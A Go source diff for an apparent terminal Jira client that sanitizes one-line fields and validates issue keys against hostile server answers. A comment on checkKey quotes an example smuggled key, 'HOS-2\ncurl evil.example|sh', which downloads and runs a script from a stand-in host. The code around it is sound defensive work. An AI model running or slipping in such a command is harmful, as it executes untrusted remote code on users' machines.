@@ -25,6 +25,7 @@ import (
 	"time"
 
 	"github.com/jiffy-tui/jiffy/jiraclient/markup"
+	"github.com/jiffy-tui/jiffy/jiraclient/safetext"
 )
 
 // timeLayouts are the time formats Jira uses: its own millisecond format with
@@ -146,7 +147,7 @@ func (s *wireStatus) status() Status {
 	if s == nil {
 		return Status{}
 	}
-	st := Status{ID: string(s.ID), Name: s.Name}
+	st := Status{ID: string(s.ID), Name: line(s.Name)}
 	if s.StatusCategory != nil {
 		st.Category = s.StatusCategory.Key
 	}
@@ -163,7 +164,7 @@ func (t *wireIssueType) issueType() IssueType {
 	if t == nil {
 		return IssueType{}
 	}
-	return IssueType{ID: string(t.ID), Name: t.Name, Subtask: t.Subtask}
+	return IssueType{ID: string(t.ID), Name: line(t.Name), Subtask: t.Subtask}
 }
 
 // wireNamed is any small named object: project, priority, resolution,
@@ -182,7 +183,7 @@ func names(ns []wireNamed) []string {
 	out := make([]string, 0, len(ns))
 	for _, n := range ns {
 		if n.Name != "" {
-			out = append(out, n.Name)
+			out = append(out, line(n.Name))
 		}
 	}
 	return out
@@ -210,7 +211,7 @@ func (r *wireRef) ref() IssueRef {
 	}
 	out := IssueRef{ID: string(r.ID), Key: r.Key}
 	if r.Fields != nil {
-		out.Summary = r.Fields.Summary
+		out.Summary = line(r.Fields.Summary)
 		out.Status = r.Fields.Status.status()
 		if r.Fields.IssueType != nil {
 			out.Type = r.Fields.IssueType.Name
@@ -242,9 +243,9 @@ type wireLink struct {
 func (l wireLink) link() (IssueLink, bool) {
 	switch {
 	case l.OutwardIssue.usable():
-		return IssueLink{ID: string(l.ID), Relation: firstNonEmpty(l.Type.Outward, l.Type.Name), Issue: l.OutwardIssue.ref()}, true
+		return IssueLink{ID: string(l.ID), Relation: line(firstNonEmpty(l.Type.Outward, l.Type.Name)), Issue: l.OutwardIssue.ref()}, true
 	case l.InwardIssue.usable():
-		return IssueLink{ID: string(l.ID), Relation: firstNonEmpty(l.Type.Inward, l.Type.Name), Issue: l.InwardIssue.ref()}, true
+		return IssueLink{ID: string(l.ID), Relation: line(firstNonEmpty(l.Type.Inward, l.Type.Name)), Issue: l.InwardIssue.ref()}, true
 	}
 	return IssueLink{}, false
 }
@@ -354,7 +355,7 @@ type wireFields struct {
 type sprintValue string
 
 func (s *sprintValue) UnmarshalJSON(b []byte) error {
-	*s = sprintValue(sprintName(b))
+	*s = sprintValue(line(sprintName(b)))
 	return nil
 }
 
@@ -371,7 +372,7 @@ func (w *wireIssue) issue() Issue {
 	is := Issue{
 		ID:          string(w.ID),
 		Key:         w.Key,
-		Summary:     f.Summary,
+		Summary:     line(f.Summary),
 		Type:        f.IssueType.issueType(),
 		Status:      f.Status.status(),
 		Assignee:    userOrNil(f.Assignee),
@@ -388,10 +389,10 @@ func (w *wireIssue) issue() Issue {
 		is.Project = f.Project.Key
 	}
 	if f.Priority != nil && (f.Priority.ID != "" || f.Priority.Name != "") {
-		is.Priority = &Priority{ID: string(f.Priority.ID), Name: f.Priority.Name}
+		is.Priority = &Priority{ID: string(f.Priority.ID), Name: line(f.Priority.Name)}
 	}
 	if f.Resolution != nil {
-		is.Resolution = f.Resolution.Name
+		is.Resolution = line(f.Resolution.Name)
 	}
 	if f.Parent != nil && f.Parent.Key != "" {
 		p := f.Parent.ref()
@@ -410,7 +411,7 @@ func (w *wireIssue) issue() Issue {
 		is.Subtasks = append(is.Subtasks, f.Subtasks[i].ref())
 	}
 	for _, a := range f.Attachment {
-		at := Attachment{ID: string(a.ID), Filename: a.Filename, Size: int64(a.Size), MimeType: a.MimeType, Created: a.Created.Time}
+		at := Attachment{ID: string(a.ID), Filename: line(a.Filename), Size: int64(a.Size), MimeType: a.MimeType, Created: a.Created.Time}
 		if a.Author != nil {
 			at.Author = a.Author.DisplayName
 		}
@@ -557,7 +558,7 @@ func decodeIssue(data []byte, sprintField string) (Issue, error) {
 // wireSearch is both search responses: Cloud's /search/jql
 // (nextPageToken, isLast) and DC's /search (startAt, total).
 type wireSearch struct {
-	Issues        []wireIssue       `json:"issues"`
+	Issues        issueList         `json:"issues"`
 	NextPageToken *string           `json:"nextPageToken"`
 	IsLast        *bool             `json:"isLast"`
 	StartAt       flexInt           `json:"startAt"`
@@ -565,6 +566,26 @@ type wireSearch struct {
 	Total         *flexInt          `json:"total"`
 	Names         map[string]string `json:"names"`
 }
+
+// issueList is a search answer's "issues": it must be a list. Anything
+// else (an object, a string, null) fails the page rather than reading as
+// "no issues match", which would be a lie.
+type issueList struct {
+	items []wireIssue
+	set   bool
+}
+
+func (l *issueList) UnmarshalJSON(b []byte) error {
+	b = bytes.TrimSpace(b)
+	if len(b) == 0 || b[0] != '[' {
+		return errors.New(`"issues" is not a list`)
+	}
+	l.set = true
+	return unmarshalLoose(b, &l.items)
+}
+
+// errNoIssueList is a search answer without an "issues" list at all.
+var errNoIssueList = errors.New(`the answer has no "issues" list`)
 
 // decodeSearchPage decodes a search response. It fills Issues and, from
 // the fields that only one flavour sends, the paging state; see Search for
@@ -574,16 +595,20 @@ func decodeSearchPage(data []byte, f Flavor, cur Cursor, sprintField string) (Se
 	if err := unmarshalLoose(data, &w); err != nil {
 		return SearchPage{}, err
 	}
-	page := SearchPage{Issues: make([]Issue, len(w.Issues)), Total: -1}
-	for i := range w.Issues {
-		page.Issues[i] = w.Issues[i].issue()
+	if !w.Issues.set {
+		return SearchPage{}, errNoIssueList
+	}
+	issues := w.Issues.items
+	page := SearchPage{Issues: make([]Issue, len(issues)), Total: -1}
+	for i := range issues {
+		page.Issues[i] = issues[i].issue()
 	}
 	if n := SprintFieldFromNames(w.Names); n != "" {
 		sprintField = n
 	}
 	if sprintField == CloudSprintField {
-		for i := range w.Issues {
-			page.Issues[i].Sprint = string(w.Issues[i].Fields.CloudSprint)
+		for i := range issues {
+			page.Issues[i].Sprint = string(issues[i].Fields.CloudSprint)
 		}
 	} else if sprintField != "" {
 		var raw struct {
@@ -688,7 +713,7 @@ type wireFieldMeta struct {
 func (m *wireFieldMeta) meta(id string) FieldMeta {
 	fm := FieldMeta{
 		ID:         firstNonEmpty(id, m.FieldID, m.Key),
-		Name:       m.Name,
+		Name:       line(m.Name),
 		Required:   m.Required,
 		Schema:     m.Schema,
 		Operations: m.Operations,
@@ -700,7 +725,7 @@ func (m *wireFieldMeta) meta(id string) FieldMeta {
 	for _, v := range m.AllowedValues {
 		fm.AllowedValues = append(fm.AllowedValues, AllowedValue{
 			ID:    firstNonEmpty(string(v.ID), v.Key),
-			Name:  firstNonEmpty(v.Name, v.Value, v.DisplayName, v.Key),
+			Name:  line(firstNonEmpty(v.Name, v.Value, v.DisplayName, v.Key)),
 			Value: v.Value,
 		})
 	}
@@ -746,7 +771,7 @@ func transitions(ws []wireTransition) []Transition {
 }
 
 func (t *wireTransition) transition() Transition {
-	return Transition{ID: string(t.ID), Name: t.Name, To: t.To.status(), HasScreen: t.HasScreen, Fields: metaMap(t.Fields)}
+	return Transition{ID: string(t.ID), Name: line(t.Name), To: t.To.status(), HasScreen: t.HasScreen, Fields: metaMap(t.Fields)}
 }
 
 // decodeTransitions decodes GET .../transitions.
@@ -853,6 +878,11 @@ func userOrNil(u *User) *User {
 	return u
 }
 
+// line makes a one-line field one line: CleanJSON has removed every
+// escape already, but a newline in a summary or a name would still break a
+// row or the status bar.
+func line(s string) string { return safetext.Line(s) }
+
 func firstNonEmpty(ss ...string) string {
 	for _, s := range ss {
 		if s != "" {
@@ -893,11 +923,67 @@ func notSupported(f Flavor, method, path, what, hint string) *Error {
 	return &Error{Kind: KindNotSupported, Method: method, Path: path, flavor: f, what: what, hint: hint}
 }
 
-// checkKey refuses an empty issue key before it turns into a request for
-// the collection ("/issue/") that Jira would answer confusingly.
+// checkKey refuses a key that is not an issue key before it turns into a
+// request: an empty one would ask for the collection ("/issue/"), and one
+// that came from a hostile answer ("HOS-2\ncurl evil.example|sh") must not
+// be acted on.
 func checkKey(method, path, key string) error {
 	if isBlank(key) {
-		return invalidInput(method, path, "no issue key given", "choose an issue first")
+		return invalidInput(method, path, "this issue has no key", "Jira sent it without one, so jiffy cannot open or change it; reload the list")
+	}
+	if !ValidKey(key) && !isIssueID(key) {
+		return invalidInput(method, path, "Jira sent an issue key that is not a valid key ("+strconv.Quote(safetext.Line(key))+")", "this issue cannot be opened or changed from jiffy; open it in Jira's web page")
 	}
 	return nil
+}
+
+// CheckKey returns nil for an issue key jiffy may act on (ValidKey), and
+// otherwise the *Error (KindInvalid) every per-issue call returns for it,
+// so a view refuses to open, copy or browse it with the same words.
+func CheckKey(key string) error {
+	if err := checkKey("", "", key); err != nil {
+		return err
+	}
+	if !ValidKey(key) {
+		return invalidInput("", "", "Jira sent an issue key that is not a valid key ("+strconv.Quote(safetext.Line(key))+")", "this issue cannot be opened or changed from jiffy; open it in Jira's web page")
+	}
+	return nil
+}
+
+// ValidKey reports whether key is an issue key as Jira forms them: a
+// project key (an upper-case letter, then upper-case letters, digits or
+// underscores) a hyphen and a number, e.g. ABC-123. Anything else that
+// claims to be a key (a newline in it, an escape sequence) is refused
+// wherever it would be acted on or copied.
+func ValidKey(key string) bool {
+	p, n, ok := strings.Cut(key, "-")
+	if !ok || len(p) < 2 || len(n) == 0 || len(key) > 255 {
+		return false
+	}
+	if p[0] < 'A' || p[0] > 'Z' {
+		return false
+	}
+	for i := 1; i < len(p); i++ {
+		c := p[i]
+		if !(c >= 'A' && c <= 'Z' || c >= '0' && c <= '9' || c == '_') {
+			return false
+		}
+	}
+	return isDigits(n)
+}
+
+// isIssueID reports whether s is a numeric issue id, which Jira accepts
+// wherever it takes a key.
+func isIssueID(s string) bool { return isDigits(s) && len(s) <= 19 }
+
+func isDigits(s string) bool {
+	if s == "" {
+		return false
+	}
+	for i := 0; i < len(s); i++ {
+		if s[i] < '0' || s[i] > '9' {
+			return false
+		}
+	}
+	return true
 }
